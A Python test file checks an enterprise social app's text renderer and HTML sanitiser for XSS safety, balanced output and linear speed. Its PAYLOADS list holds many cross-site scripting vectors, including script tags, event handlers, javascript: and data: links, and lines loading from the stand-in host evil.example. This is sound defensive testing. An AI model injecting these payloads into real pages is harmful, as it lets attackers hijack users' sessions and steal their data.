"""Hostile text: nothing runs, nothing leaks out of its place, nothing takes long."""

from __future__ import annotations

import re
import time
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html  # type: ignore[import-untyped, unused-ignore]

from enterprise_social.core.text import ChannelRef, PersonRef, normalise, render
from enterprise_social.core.text.sanitiser import sanitise

VOID = {"br", "hr", "input", "img"}
TAGS = VOID | set(
    re.findall(
        r"[\w-]+",
        "a blockquote code div em figcaption figure h3 h4 h5 h6 label li ol p pre s span strong "
        "table tbody td th thead tr ul",
    )
)
ATTRIBUTES = set(
    re.findall(
        r"[\w-]+",
        "alt aria-label checked class data-channel data-person dir disabled href rel src start "
        "tabindex target title type",
    )
)


class Strict(HTMLParser):
    """Fails on an unbalanced tag, and on a tag, attribute or address that isn't ours."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.deepest = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, name
            if name == "href":
                self.check(value or "")
            # No picture but those of the organisation's own emoji.
            assert name != "src" or re.fullmatch(r"/emoji/[0-9a-f]{24}", value or ""), value
        if tag == "a":
            assert "a" not in self.open, "a link in a link"
        if tag not in VOID:
            self.open.append(tag)
            self.deepest = max(self.deepest, len(self.open))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    @staticmethod
    def check(address: str) -> None:
        if address.startswith("/"):
            assert address[1:2] not in ("/", "\\"), address
            return
        scheme = address.split(":", 1)[0].lower()
        assert address == "" or scheme in ("http", "https", "mailto"), address


class Everyone:
    """Knows everybody, with names that would break out if they could."""

    def emoji(self, names: set[str]) -> dict[str, str]:
        return {name: '" onerror="alert(1)' if name < "m" else "0" * 24 for name in names}

    def people(self, usernames: set[str]) -> dict[str, PersonRef]:
        return {name: PersonRef(1, name + '"<', "<script>x</script>") for name in usernames}

    def channels(self, slugs: set[str]) -> dict[str, ChannelRef]:
        return {slug: ChannelRef(2, slug + "'>", "</a><img src=x>") for slug in slugs}


class Nobody:
    """Knows nobody."""

    def people(self, usernames: set[str]) -> dict[str, PersonRef]:
        return {}

    def channels(self, slugs: set[str]) -> dict[str, ChannelRef]:
        return {}


def check(html: str) -> Strict:
    parser = Strict()
    parser.feed(html)
    parser.close()
    assert parser.open == []
    return parser


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><button>go</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</p></div></article><h1>out</h1>",
    "<plaintext>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](%6aavascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a](\\\\evil.example)",
    "[a](/%5cevil.example)",
    "[a](/%2fevil.example)",
    "[a](/&#9;/evil.example)",
    "[a](http:evil)",
    "[a][1]\n\n[1]: javascript:alert(1)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>",
    '<https://evil.example/"onmouseover=alert(1)>',
    '[a](https://example.com "x\\" onmouseover=alert(1) y=\\"")',
    "[a](https://example.com/'onmouseover='alert(1))",
    'https://example.com/"onmouseover="alert(1)',
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "|<img src=x onerror=alert(1)>|\n|-|\n|</table><script>alert(1)</script>|",
    '@x"onclick=alert(1) #y"onclick=alert(1)',
    "@<script> #<script> :<script>:",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "# <h1 onclick=alert(1)>",
    "\x00<script\x00>alert(1)</script>",
    "\ud800<script>\udfff",
    "a\u2028<script>\u2029",
    "&#0; &#xD800; &#xDFFF; &#x110000; &#99999999999; [a](/&#xD800;) ![&#xD800;](/a)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "**{}**", "> {}", "- {}", "a {} @ana #b", "[{}](/x)"])
def test_nothing_hostile_gets_through(payload: str, around: str) -> None:
    for resolver in (Everyone(), Nobody()):
        check(render(around.format(payload), resolver).html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_allowlist_alone_would_hold(payload: str) -> None:
    # lxml takes neither of these.
    storable = normalise(payload).replace("\x01", "")
    html = sanitise(storable + "<input type=text onfocus=x><a href=javascript:x id=y style=z>")
    tree = lxml_html.fragment_fromstring(html, create_parent="div")
    for element in tree.iterdescendants():
        assert element.tag in TAGS
        assert not [name for name in element.attrib if name not in ATTRIBUTES]
        assert element.get("src") is None
        assert urlsplit(element.get("href") or "/").scheme in ("", "http", "https", "mailto")
    assert 'type="text"' not in html


def test_a_name_of_a_person_or_channel_can_not_break_out() -> None:
    html = render("@ana #general", Everyone()).html
    check(html)
    assert "&lt;script&gt;" in html
    assert 'href="/people/ana%22%3C"' in html


PIECES = st.sampled_from(
    [
        *("[", "]", "(", ")", "![", "](", "*", "**", "_", "~~", "`", "```", "\n", "\n\n", "> "),
        *("- ", "1. ", "- [x] ", "|", "\n|-|-|\n", "# ", "    ", "\t", "\\", "<", ">", "&", '"'),
        *("'", "@ana", "@王伟", "#general", "#tag", ":tada:", ":+1:", "@all", "<b>", "</p>"),
        *("javascript:", "https://example.com", "www.example.com", "/x", "a@example.com", "&lt;"),
        *("<script>", "onclick=", "\u202e", "\u200d", "\x00", "word", "สวัสดี", "नमस्ते", "مرحبا"),
        *("```python\n", "def f():", "[a]: /b\n", "[a]", "---\n", "===\n", "~~~\n", "$", "{", "}"),
    ]
)
TEXT = st.one_of(st.lists(PIECES, max_size=40).map("".join), st.text(max_size=200))


@settings(max_examples=400, deadline=None)
@given(TEXT)
def test_any_text_gives_balanced_html_of_ours(source: str) -> None:
    for resolver in (Everyone(), Nobody()):
        result = render(source, resolver)
        assert check(result.html).deepest < 80
        # A second pass through a real parser changes nothing: the HTML means what it says.
        assert sanitise(result.html) == result.html
        assert "\x00" not in result.plain


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(categories=("L", "N", "Zs", "Po")), max_size=80))
def test_words_are_never_lost(source: str) -> None:
    plain = render(source.replace("\\", "").replace("&", ""), Nobody()).plain
    for character in source:
        assert not character.isalpha() or character in plain


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(), max_size=60))
def test_normalising_twice_is_normalising_once(body: str) -> None:
    once = normalise(body)
    assert normalise(once) == once
    once.encode("utf-8")
    assert "\r" not in once
    assert "\x00" not in once


@pytest.mark.parametrize(
    ("body", "stored"),
    [
        ("  a  ", "  a  "),
        ("a\r\nb\rc\n", "a\nb\nc\n"),
        ("a\r\x00\nb", "a\nb"),
        ("\ud83dx\x00", "x"),
        ("👍🏽\u202e\t", "👍🏽\u202e\t"),
        ("", ""),
    ],
)
def test_only_what_can_not_be_stored_is_taken_away(body: str, stored: str) -> None:
    assert normalise(body) == stored


REPEATED = [
    *re.split(
        r"\|",
        "[|![|[[a]|[a](|](|*|*a |**a |a** |_*|~~a|`|`a``|<|<a |>|> |- |1. |-\n|- a\n  |a\n|@|@@|@a|"
        "@ana |@王|#|#a|#王|:|::|:a:|:+1:|&|&#|\\|www.|http://|http://(|http://a.com |mailto:a@|a@|"
        "a@b.com |a.com(|([|\t|\n|[a]: b\n|[a][|```\n|```py\n|\u202e|- [ ] a\n|_a*|'|\"",
    ),
    "|",
    "|-",
    "a|b\n-|-\n",
]


@pytest.mark.parametrize("piece", REPEATED)
def test_twenty_thousand_characters_of_anything_are_quick(piece: str) -> None:
    source = (piece * 20_000)[:20_000]
    began = time.thread_time()
    result = render(source, Everyone())
    # About 0.3 s at worst here; the rest is for slower machines. Quadratic would be seconds.
    # Quadratic growth would take a minute; no machine is that late.
    assert time.thread_time() - began < 10
    check(result.html)


@pytest.mark.parametrize(
    "source",
    [
        "|-|www." * 2857,
        ("|-|www." * 140 + " ") * 20,
        "|a" * 200 + "\n" + "|-" * 200 + "\n" + "|\n" * 9000,
        "*a " * 4000 + "a*" * 4000,
        "\n".join(" " * depth + "- a" for depth in range(190)),
        "".join(f"[a{n}]: /b\n" for n in range(1500)) + "[a1] " * 500,
        *(
            f"```{language}\n" + (piece * 4000)[:3980]
            for language in ("c", "java", "perl", "make", "terraform", "yaml", "typescript")
            for piece in ("\n", "a", "s{", "/", "a\n ", "a.", "<<A\n", "@")
        ),
    ],
    ids=range(62),
)
def test_shapes_that_are_slow_elsewhere_are_quick(source: str) -> None:
    began = time.thread_time()
    check(render(source, Nobody()).html)
    # Quadratic growth would take a minute; no machine is that late.
    assert time.thread_time() - began < 10


def test_time_grows_with_the_length_of_ordinary_text_and_no_faster() -> None:
    paragraph = "Found it, @ana: see https://example.com and **#general** :+1:, `4.2.1`.\n\n"

    def seconds(times: int) -> float:
        best = 9.0
        for _ in range(3):
            began = time.thread_time()
            render(paragraph * times, Everyone())
            best = min(best, time.thread_time() - began)
        return best

    assert seconds(200) < 30 * seconds(20)


def test_a_text_far_too_long_is_shown_as_typed() -> None:
    result = render("<b>**a**\n" * 20_000, Everyone())
    check(result.html)
    assert "&lt;b&gt;**a**<br>" in result.html


def test_many_threads_can_render_at_once() -> None:
    sources = [f"@p{n} www.a{n}.com `{n}` https://b{n}.com #t{n}" * 3 for n in range(20)]
    expected = [render(source, Everyone()) for source in sources]
    with ThreadPoolExecutor(8) as pool:
        for _ in range(10):
            assert list(pool.map(lambda source: render(source, Everyone()), sources)) == expected
